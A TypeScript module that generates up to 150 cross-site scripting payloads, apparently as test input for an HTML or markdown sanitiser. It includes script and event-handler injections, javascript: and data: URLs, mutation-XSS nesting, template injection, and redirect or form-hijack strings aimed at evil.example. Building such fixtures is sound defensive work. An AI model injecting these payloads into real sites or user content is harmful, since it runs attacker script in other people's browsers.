/** What somebody types who wants a script of theirs to run in other people's browsers. */
const byHand = [
  "<script>alert(1)</script>",
  "</script><script>alert(2)</script>",
  "</title><script>alert(3)</script>",
  "</textarea><img src=x onerror=alert(4)>",
  '"><x-payload onclick=alert(5)>',
  "'><svg onload=alert(6)>",
  '" x-payload autofocus onfocus="alert(7)',
  "' x-payload onmouseover='alert(8)",
  "<img src=x onerror=alert(9)>",
  "<svg/onload=alert(10)>",
  "<iframe srcdoc='<script>parent.alert(11)</script>'></iframe>",
  "<a href='javascript:alert(12)'>x</a>",
  "[x](javascript:alert(13))",
  "[x](JaVaScRiPt:alert(14) 'x-payload')",
  "![x](x'onerror=alert(15)//)",
  "[x]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxNik8L3NjcmlwdD4=\n\n[y][x]",
  "<https://x/\"onclick='alert(17)'>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<style>*{background:url(https://evil.example/)}</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<form action=https://evil.example/><button>x</button></form>",
  "<math><mtext></p><x-payload><mglyph><svg><mtext><textarea><a title='</textarea><img src onerror=alert(22)>'>",
  "--><img src=x onerror=alert(23)>",
  "]]><script>alert(24)</script>",
  "\\u003cscript\\u003ealert(25)\\u003c/script\\u003e",
  "&lt;script&gt;alert(26)&lt;/script&gt;",
  "{{constructor.constructor('alert(27)')()}}",
  "$t(x-payload) ${alert(28)} <%= alert(28) %>",
  "\u2028</script\u2028><details open ontoggle=alert(29)>",
];

const ends = [
  '"',
  "'",
  "`",
  ">",
  "-->",
  "</script>",
  "</style>",
  "</title>",
  "</textarea>",
  "</svg>",
];
const vectors = [
  "<script>alert(31)</script>",
  "<ScRiPt/x>alert(32)</sCrIpT>",
  "<img src=x onerror=alert(33) x-payload>",
  "<svg><animate onbegin=alert(34) attributeName=x></svg>",
  "<x-payload tabindex=1 autofocus onfocus=alert(35)></x-payload>",
  "<iframe src=javascript:alert(36)></iframe>",
  "<object data='data:text/html,<script>alert(37)</script>'></object>",
  "<embed src=https://evil.example/x>",
  "<video><source onerror=alert(38)></video>",
  "<input autofocus onfocus=alert(39)>",
  '<a x-payload href="java\tscript:alert(40)">x</a>',
  "<button form=x formaction=https://evil.example/>x</button>",
];

/** The first so many of 150. */
export function listPayloads(count: number): string[] {
  const made = ends.flatMap((end) => vectors.map((vector) => end + vector));
  return [...byHand, ...made].slice(0, count);
}
